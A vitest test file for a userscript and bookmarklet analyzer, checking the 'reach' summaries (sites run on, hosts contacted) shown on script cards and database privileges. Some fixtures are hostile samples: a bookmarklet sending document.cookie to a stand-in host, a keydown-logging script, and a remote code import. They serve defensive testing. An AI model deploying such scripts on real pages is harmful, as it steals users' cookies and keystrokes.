import type { AnalysisResult } from "@scriptorium/script-analyzer/analysis-result";
import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { accessOf } from "@scriptorium/script-analyzer/capabilities/access";
import { verdictOf } from "@scriptorium/script-analyzer/rating/verdict";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { readSeeds } from "../../seed/read-seeds.ts";
import { forgetRates, newcomer, openFixture, type Person } from "../support/fixture.ts";
import { save } from "../support/save.ts";

const fixture = openFixture();
const { anon } = fixture.people;
afterAll(() => fixture.close());

type Reach = Record<string, unknown> | null;
interface Facts {
	readonly offline?: boolean;
	readonly runsOn?: readonly string[];
	/** A host, which is fetched, or `host via api`. */
	readonly hosts?: readonly string[];
}

async function reachOf(analysis: object | null, kind: "bookmarklet" | "userscript"): Promise<Reach> {
	const json = analysis && fixture.sql.json(JSON.parse(JSON.stringify(analysis)));
	const [row] = await fixture.sql<{ reach: Reach }[]>`select private.reach_of(${json}, ${kind}) as reach`;
	return row?.reach ?? null;
}

function reportOf({ offline = false, runsOn = [], hosts = [] }: Facts) {
	return {
		risk_level: "green",
		capabilities: {
			offline,
			runs_on: runsOn.map((what) => ({ what })),
			hosts: hosts.map((entry) => {
				const [host, via = "fetch"] = entry.split(" via ");
				return { host, via };
			}),
		},
	};
}
const userscriptReach = (facts: Facts) => reachOf(reportOf(facts), "userscript");
const bookmarkletReach = (facts: Facts) => reachOf(reportOf(facts), "bookmarklet");

const nothing = {
	offline: false,
	every_site: false,
	sites: [],
	site_count: 0,
	contacts: [],
	contact_count: 0,
	own_site: false,
	unknown_hosts: false,
	code: null,
	reads: null,
	checked_in_part: false,
};

describe("where a script runs", () => {
	test("is not claimed of a bookmarklet", async () => {
		expect(await bookmarkletReach({ runsOn: ["*://*/*"] })).toEqual(nothing);
	});

	test.each(["*", "<all_urls>", "*://*/*", "https://*/*", "http*://*/*", "*://*.com/*", "https://*.co.uk/*"])(
		"is every site with %s, whatever the other patterns are",
		async (pattern) => {
			expect(await userscriptReach({ runsOn: ["https://a.example/*", "/regex/", pattern] })).toEqual({
				...nothing,
				every_site: true,
			});
		},
	);

	test("is every site without any pattern", async () => {
		expect(await userscriptReach({})).toEqual({ ...nothing, every_site: true });
	});

	test("is the first three hosts and their number, each once, without www and wildcards", async () => {
		const runsOn = [
			"https://www.google.com/search*",
			"*://*.google.com/maps/*",
			"http*://bing.com:8080/*",
			"https://bücher.example/*",
			"https://192.168.0.1/*",
			"https://localhost/*",
		];
		expect(await userscriptReach({ runsOn })).toEqual({
			...nothing,
			sites: ["google.com", "bing.com", "bücher.example"],
			site_count: 5,
		});
	});

	test.each(["/^https://a\\.example/", "file:///*", "https://www.google.*/*", "a.example", "about:blank"])(
		"is not claimed when %s, which names no host, is one of the patterns",
		async (pattern) => {
			expect(await userscriptReach({ runsOn: ["https://b.example/*", pattern] })).toEqual(nothing);
		},
	);
});

describe("what a script contacts", () => {
	test("is nothing when the analysis has shown it, whatever links it writes", async () => {
		expect(await bookmarkletReach({ offline: true, hosts: ["(unknown) via a.href", "c.example via a.href"] })).toEqual({
			...nothing,
			offline: true,
		});
	});

	test("is named, the first three of all, each once", async () => {
		const hosts = ["d.example", "b.example", "D.example via Image", "www.b.example", "a.example", "c.example"];
		expect(await bookmarkletReach({ hosts })).toEqual({
			...nothing,
			contacts: ["d.example", "b.example", "a.example"],
			contact_count: 4,
		});
	});

	test("is its own site, or unknown", async () => {
		expect(await bookmarkletReach({ hosts: ["(this site)", "(given by the page)"] })).toEqual({
			...nothing,
			own_site: true,
		});
		expect(await bookmarkletReach({ hosts: ["(unknown)", "a.example"] })).toEqual({
			...nothing,
			contacts: ["a.example"],
			contact_count: 1,
			unknown_hosts: true,
		});
	});

	test("is not the target of a link that it writes, but that of a navigation", async () => {
		const hosts = ["link.example via a.href", "style.example via link.href", "go.example via location.href"];
		expect(await bookmarkletReach({ hosts })).toMatchObject({ contacts: ["style.example", "go.example"] });
	});

	test.each(["script", "undefined", "https", 'id="ires"]', "a/b.example", "a b.example", "", "1.2", "-"])(
		"is never %j, which is no host",
		async (host) => {
			expect(
				await reachOf(
					{ risk_level: "red", capabilities: { offline: false, hosts: [{ host, via: "fetch" }] } },
					"bookmarklet",
				),
			).toEqual(nothing);
		},
	);
});

test("nothing is claimed without a rated report", async () => {
	expect(await reachOf(null, "userscript")).toBeNull();
	expect(await reachOf({}, "userscript")).toBeNull();
	expect(await reachOf({ ...reportOf({ offline: true }), risk_level: "unrated" }, "userscript")).toBeNull();
});

test.each<[string, string, object]>([
	["javascript:document.title = 'a'", "bookmarklet", { offline: true, contact_count: 0 }],
	["javascript:fetch('https://api.example.com/' + document.title)", "bookmarklet", { contacts: ["api.example.com"] }],
	["javascript:fetch('/a')", "bookmarklet", { own_site: true, contact_count: 0, unknown_hosts: false }],
	["javascript:fetch(prompt())", "bookmarklet", { offline: false, contact_count: 0, unknown_hosts: true }],
	["// ==UserScript==\n// @name A\n// @match *://*/*\n// ==/UserScript==\nvoid 0", "userscript", { every_site: true }],
	[
		"// ==UserScript==\n// @name A\n// @match https://example.com/*\n// ==/UserScript==\nvoid 0",
		"userscript",
		{ sites: ["example.com"], offline: true },
	],
])("the analysis of %j gives what a card says", async (code, kind, expected) => {
	const report = analyzeScript({ code });
	expect(await reachOf(report, kind === "userscript" ? kind : "bookmarklet")).toMatchObject(expected);
});

/** Scripts of every kind of access and verdict. */
const ANSWERED = [
	"javascript:fetch('https://c.test/' + document.cookie)",
	"javascript:document.addEventListener('keydown', (event) => f(event.key)); f(localStorage.a, document.title)",
	"javascript:import('https://cdn.stranger.test/x.js')",
	userscript("match *://*/*", "require https://a.test/x.js"),
	userscript(
		"match https://www.a.test/*",
		"match *://*.a.test/",
		"require https://unpkg.com/vue@3.4.21/dist/vue.global.js",
	),
	userscript("match https://a.test/*", "include /regular/", "resource lib https://a.test/x.js"),
	userscript("match https://bücher.test:8080/*", "match https://localhost/*", "match http*://192.168.0.1/x"),
];
const BURN = "function burn(run) { return [...'x'.repeat(9000)].length + run; }";
const inPart = `${BURN}\n${Array.from({ length: 300 }, (_, run) => `burn(${run});`).join("\n")}`;

function userscript(...lines: string[]): string {
	return ["// ==UserScript==", "// @name A", ...lines.map((line) => `// @${line}`), "// ==/UserScript==", "f()"].join(
		"\n",
	);
}

describe("both answers", () => {
	const kindOf = (code: string) => (code.includes("==UserScript==") ? "userscript" : "bookmarklet");

	test("are those of the analyzer, for seeds and scripts of every kind", { timeout: 60_000 }, async () => {
		const seeds = readSeeds().map(({ code }) => code);
		const seen = new Set<string | null>();
		for (const code of [...ANSWERED, ...seeds.filter((_, index) => index % 3 === 0)]) {
			const result = analyzeScript({ code });
			const reach = await reachOf(result, kindOf(code));
			const access = accessOf(result, kindOf(code));
			expect(reach && answersOf(reach, kindOf(code)), code.slice(0, 200)).toEqual(access);
			seen.add(access?.code ?? null).add(access?.sites ?? null);
		}
		expect([...seen].sort()).toEqual(["any-site", "named-sites", "none", "not-pinned", "pinned", "this-site"]);
	});

	test("tell a script that was not checked in full from one that is worth a look", async () => {
		const result = analyzeScript({ code: inPart }, { steps: 500_000 });
		const medium = {
			type: "broad-match",
			severity: "medium",
			description: "Runs on every site.",
			line: 1,
			column: 1,
			path: [],
		} as const;
		const low = { ...medium, severity: "low" } as const;
		const withMore: readonly (readonly [string, Pick<AnalysisResult, "risk_level" | "vulnerabilities">])[] = [
			["checked-in-part", result],
			["checked-in-part", { ...result, vulnerabilities: [...result.vulnerabilities, low] }],
			["worth-a-look", { ...result, vulnerabilities: [...result.vulnerabilities, medium] }],
			["worth-a-look", { ...result, vulnerabilities: [medium] }],
			["attack", { ...result, risk_level: "red" }],
			["nothing-found", analyzeScript({ code: "f()" })],
		];
		for (const [kind, changed] of withMore) {
			expect(verdictOf(changed).kind).toBe(kind);
			const reach = await reachOf({ ...result, ...changed }, "bookmarklet");
			expect(reach?.checked_in_part, kind).toBe(kind === "checked-in-part");
		}
	});
});

/** The access that a list states. */
function answersOf({ every_site, sites, checked_in_part: _, ...facts }: NonNullable<Reach>, kind: string) {
	const several = facts.site_count === 1 ? "this-site" : "named-sites";
	return {
		...facts,
		sites: kind === "bookmarklet" ? "this-site" : every_site ? "any-site" : several,
		site_names: sites,
	};
}

describe("rows of lists", () => {
	let author: Person & { id: string };
	let id: string;
	const listed = async (): Promise<Reach[]> => {
		const list = await anon.hub.rpc("list_scripts", { p_owner_id: author.id });
		const found = await anon.hub.rpc("search_scripts", { p_term: "Reachable", p_owner_id: author.id });
		const favorites = await anon.hub.rpc("list_favorites", { p_user_id: author.id });
		return [list, found, favorites].map(({ data }) => (data?.[0]?.reach ?? null) as Reach);
	};

	beforeAll(async () => {
		await forgetRates(fixture);
		author = await newcomer(fixture, "Rhea Reach");
		id = (await save(author, { p_title: "Reachable" })).id;
		await author.hub.from("bookmarklet_stars").insert({ user_id: author.id, bookmarklet_id: id });
	});

	test("have the reach of the newest report, which no other statement changes", async () => {
		expect(await listed()).toEqual([null, null, null]);
		const report = fixture.sql.json(reportOf({ offline: true }));
		await fixture.sql`update public.bookmarklets set security_analysis = ${report} where id = ${id}`;
		const reach = { ...nothing, offline: true };
		expect(await listed()).toEqual([reach, reach, reach]);
		await fixture.sql`update public.bookmarklets set reach = '{"offline": false}' where id = ${id}`;
		expect(await listed()).toEqual([reach, reach, reach]);
	});

	test("keep their order", async () => {
		const titles = ["Reach c", "Reach a", "Reach d", "Reach b"];
		for (const p_title of titles) await save(author, { p_title });
		const { data } = await anon.hub.rpc("list_scripts", { p_owner_id: author.id, p_sort: "alphabetical" });
		expect(data?.map(({ title }) => title)).toEqual([...titles.toSorted(), "Reachable"]);
	});

	test("come from a search and a view that clients cannot use", async () => {
		const rows = await fixture.sql`
			select array_agg(distinct proname::text order by proname::text) as searches, count(*) filter (
				where has_function_privilege('anon', oid, 'execute') or has_function_privilege('authenticated', oid, 'execute')
			)::integer as open
			from pg_proc where pronamespace = 'private'::regnamespace and proname in ('find_scripts', 'search_page', 'related_scripts')
		`;
		expect(rows).toMatchObject([{ searches: ["find_scripts", "related_scripts", "search_page"], open: 0 }]);
		for (const role of ["anon", "authenticated", "service_role"]) {
			const [view] = await fixture.sql`select has_table_privilege(${role}, 'private.script_cards', 'select') as reads`;
			expect(view).toEqual({ reads: false });
		}
	});
});
